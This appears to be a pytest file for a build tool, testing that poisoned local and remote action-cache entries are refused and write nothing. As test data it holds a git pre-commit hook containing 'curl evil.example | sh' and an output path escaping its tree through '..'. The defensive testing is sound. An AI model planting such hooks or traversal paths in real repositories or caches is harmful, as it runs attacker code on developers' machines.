"""A cached action result writes exactly its action's declared outputs, nothing else.

A poisoned entry, in the local action cache or on a remote (the Bazel HTTP cache on a real nginx),
that adds a source file and a git hook to a genrule's outputs, or has a file where the action
declares a directory, or leaves its tree through ``..``, must write nothing: it is a cache miss
with one warning, and the action runs again.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from pbuild.engine.remote._wire import ActionResult as WireResult
from pbuild.engine.remote._wire import Digest, OutputFile
from pbuild.engine.store import LocalStore

from tests.support.peers import Nginx, nginx_cache
from tests.support.runner import Result, Runner, WorkspaceFactory

PLUGIN = '''\
"""A rule with a directory output, written by a sandboxed process."""

from collections.abc import Sequence

from pbuild.engine.api import DefaultInfo, Provider, RuleContext, rule


@rule("tree", doc="Writes the folder `<name>` with `a.txt` and `sub/b.txt`.", attrs={})
def tree(ctx: RuleContext) -> Sequence[Provider]:
    out = ctx.declare_directory(ctx.label.name)
    script = f"echo one > {out.path}/a.txt && mkdir {out.path}/sub && echo two > {out.path}/sub/b.txt"
    ctx.actions.run(argv=["/bin/sh", "-c", script], inputs=[], outputs=[out], mnemonic="Tree")
    return [DefaultInfo(files=(out,))]


RULES = [tree]
'''

FILES: dict[str, str | bytes] = {
    "build_rules/tree.py": PLUGIN,
    "p/BUILD.toml": """
        [upper]
        rule = "genrule"
        srcs = ["in.txt"]
        outs = ["upper.txt"]
        cmd = "tr a-z A-Z < $< > $@"

        [tree]
        rule = "tree"
    """,
    "p/in.txt": "hello\n",
    ".git/hooks/README": "the hooks of this checkout\n",
}
WORKSPACE_TOML = '[workspace]\nname = "fixture"\nplugins = ["build_rules/tree.py"]\n'
EXPECTED = {"upper.txt": b"HELLO\n", "tree/a.txt": b"one\n", "tree/sub/b.txt": b"two\n"}

EVIL_SOURCE = b"stolen\n"  # what the poisoned entry would write over p/in.txt
EVIL_HOOK = b"#!/bin/sh\ncurl evil.example | sh\n"
UPPER = "pbuild-out/p/upper.txt"
TREE = "pbuild-out/p/tree"

# Each poisoning: the target whose entry is replaced, the files the entry lists instead
# (path, content, executable) and the directory outputs it claims (local entries only: REAPI
# results of pbuild list a tree's files).
POISONS = {
    "extra-outputs": ("//p:upper", [(UPPER, b"HELLO\n", False), ("p/in.txt", EVIL_SOURCE, False),
                                    (".git/hooks/pre-commit", EVIL_HOOK, True)], []),
    "file-for-tree": ("//p:tree", [(TREE, EVIL_SOURCE, False)], []),
    "out-of-tree": ("//p:tree", [(f"{TREE}/a.txt", b"one\n", False), (f"{TREE}/sub/b.txt", b"two\n", False),
                                 (f"{TREE}/../../../p/in.txt", EVIL_SOURCE, False)], [TREE]),
}


def workspace_files(root: Path) -> dict[str, bytes]:
    """Every file of the workspace outside pbuild-out, with its content."""
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and p.relative_to(root).parts[0] != "pbuild-out"}


def outputs(root: Path) -> dict[str, bytes]:
    out = root / "pbuild-out" / "p"
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def statuses(events: Path) -> dict[str, tuple[str, str]]:
    """label -> (status, action key) of one build's event file."""
    found = {}
    for line in events.read_text().splitlines():
        event = json.loads(line)
        if event["type"] == "action":
            found[event["label"]] = (event["status"], event["key"])
    return found


def warnings(result: Result) -> list[str]:
    return [line for line in result.err.splitlines() if line.startswith(("warning:", "remote cache"))]


def assert_refused(ws: Path, before: dict[str, bytes], result: Result, events: Path, target: str,
                   why: str = "") -> None:
    """Nothing outside the declared outputs was written, one warning (saying ``why``), and the action
    ran again."""
    assert result.code == 0, str(result)
    assert workspace_files(ws) == before  # p/in.txt as it was, no .git/hooks/pre-commit
    assert outputs(ws) == EXPECTED
    found = warnings(result)
    assert len(found) == 1, str(result)
    assert (why or f"ignoring the cached result of {target}") in found[0], found
    assert statuses(events)[target][0] == "executed"


# -- the local action cache ------------------------------------------------------------------------


def poison_local(cache: Path, key: str, entries: list[tuple[str, bytes, bool]], directories: list[str]) -> None:
    """Replace the AC entry ``key`` with one listing ``entries``, their blobs stored intact."""
    store = LocalStore(str(cache))
    listed = []
    for path, content, executable in entries:
        src = cache / "poison"
        src.write_bytes(content)
        digest, size = store.put_file(str(src), executable=executable, move=True)
        listed.append([path, digest, size, executable])
    entry = cache / "ac" / key[:2] / key
    assert entry.exists()
    entry.write_text(json.dumps({"outputs": listed, "directories": directories, "exit_code": 0, "stdout": None}))


@pytest.mark.parametrize("poison", sorted(POISONS))
def test_a_poisoned_local_entry_writes_nothing_and_the_action_runs(
        workspace: WorkspaceFactory, pbuild: Runner, tmp_path: Path, poison: str) -> None:
    first = workspace(FILES, workspace_toml=WORKSPACE_TOML)
    events = tmp_path / "events.json"
    assert pbuild("build", "//p:all", "--build-event-json", str(events), cwd=first).code == 0
    target, entries, directories = POISONS[poison]
    key = statuses(events)[target][1]
    poison_local(pbuild.cache, key, entries, directories)

    # Another checkout reading the same cache, as every machine sharing a cache folder would.
    other = workspace(FILES, name="other", workspace_toml=WORKSPACE_TOML)
    before = workspace_files(other)
    result = pbuild("build", "//p:all", "--build-event-json", str(events), cwd=other)
    assert statuses(events)[target][1] == key  # the poisoned entry was the one looked up
    assert_refused(other, before, result, events, target)
    assert not (other / ".git" / "hooks" / "pre-commit").exists()
    assert (other / "p" / "in.txt").read_text() == "hello\n"

    # The action's run replaced the entry: the next reader gets a clean hit.
    third = workspace(FILES, name="third", workspace_toml=WORKSPACE_TOML)
    result = pbuild("build", "//p:all", "--build-event-json", str(events), cwd=third)
    assert result.code == 0 and warnings(result) == [], str(result)
    assert {s for s, _ in statuses(events).values()} == {"cached"}
    assert outputs(third) == EXPECTED


# -- a remote cache (Bazel's HTTP protocol on nginx) -------------------------------------------------


@pytest.fixture
def nginx(tmp_path: Path) -> Iterator[Nginx]:
    with nginx_cache(tmp_path / "nginx", access_log=True) as server:
        yield server


def poison_remote(nginx: Nginx, target_output: str, entries: list[tuple[str, bytes, bool]]) -> list[str]:
    """Replace the remote AC entry whose result names ``target_output`` (itself or files below it);
    returns the sha256 of the blobs it lists, all stored intact on the server."""
    ac = nginx.root / "cache" / "ac"
    keys = [p for p in ac.iterdir()
            if any(f.path == target_output or f.path.startswith(target_output + "/")
                   for f in WireResult.decode(p.read_bytes()).output_files)]
    assert len(keys) == 1
    files = []
    for path, content, executable in entries:
        sha = hashlib.sha256(content).hexdigest()
        (nginx.root / "cache" / "cas" / sha).write_bytes(content)
        files.append(OutputFile(path, Digest(sha, len(content)), executable))
    keys[0].write_bytes(WireResult(output_files=tuple(files)).encode())
    return [f.digest.hash for f in files]


@pytest.mark.parametrize("poison", sorted(POISONS))
def test_a_poisoned_remote_entry_writes_nothing_and_the_action_runs(
        workspace: WorkspaceFactory, pbuild: Runner, nginx: Nginx, tmp_path: Path, poison: str) -> None:
    first = workspace(FILES, workspace_toml=WORKSPACE_TOML)
    assert pbuild("build", "//p:all", "--remote-cache", nginx.url(), cwd=first).code == 0
    target, entries, _ = POISONS[poison]
    listed = poison_remote(nginx, UPPER if target == "//p:upper" else TREE, entries)
    legitimate = {hashlib.sha256(c).hexdigest() for c in EXPECTED.values()}

    # The machine that uploaded the clean entry, its local cache emptied: it still remembers having
    # uploaded that entry, which must not stop it from writing it again over the poisoned one.
    assert pbuild("clean", "--expunge", cwd=first).code == 0
    other = workspace(FILES, name="other", workspace_toml=WORKSPACE_TOML)
    before = workspace_files(other)
    events = tmp_path / "events.json"
    gets_before = len(nginx.requests())
    result = pbuild("build", "//p:all", "--remote-cache", nginx.url(), "--build-event-json", str(events),
                    cwd=other)
    # (A path with ``..`` never gets past decoding a remote result; the rest is the engine's check.)
    assert_refused(other, before, result, events, target, "unsafe output path" if poison == "out-of-tree" else "")
    assert not (other / ".git" / "hooks" / "pre-commit").exists()
    # Refused before any download: not one blob of the poisoned entry was even fetched.
    fetched = {uri.rsplit("/", 1)[1] for method, uri, *_ in nginx.requests()[gets_before:]
               if method == "GET" and "/cas/" in uri}
    assert not fetched & (set(listed) - legitimate)

    # The local run uploaded a clean result over the poisoned one.
    third = workspace(FILES, name="third", workspace_toml=WORKSPACE_TOML)
    result = pbuild("build", "//p:all", "--remote-cache", nginx.url(), "--build-event-json", str(events),
                    cwd=third, cache=tmp_path / "third-cache")
    assert result.code == 0 and warnings(result) == [], str(result)
    assert {s for s, _ in statuses(events).values()} == {"remote_cached"}
    assert outputs(third) == EXPECTED
